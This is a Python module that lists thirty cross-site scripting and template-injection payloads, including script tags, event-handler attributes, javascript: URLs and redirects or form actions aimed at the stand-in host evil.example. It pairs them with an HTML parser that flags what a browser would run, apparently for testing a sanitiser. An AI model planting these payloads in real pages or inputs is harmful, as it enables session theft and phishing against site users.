"""What somebody types to have it run in others' browsers: thirty ways, for every place where text is shown."""

from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<a href="javascript:alert(1)">here</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "{{ 7 * 7 }}{% for x in () %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)


_ELSEWHERE = "evil.example"
_RUN = ("javascript:", "data:")


class _Reads(HTMLParser):
    """Collects what a browser would run, load or send elsewhere."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        said = dict(attrs)
        handlers = [name for name in said if name.startswith("on") or name == "srcdoc"]
        leads = [value for name, value in attrs if name in {"href", "src", "action", "xlink:href", "formaction"}]
        bad = [one for one in leads if one and (_ELSEWHERE in one or one.lower().strip().startswith(_RUN))]
        if tag in {"iframe", "math", "base", "style"} or (tag == "script" and "src" not in said) or handlers or bad:
            self.found.append((tag, attrs))
        if tag == "meta" and "http-equiv" in said:
            self.found.append((tag, attrs))


def what_would_run(page):
    """What of a page a browser would run, or load from elsewhere, beside its own scripts."""
    reads = _Reads()
    reads.feed(page)
    return reads.found
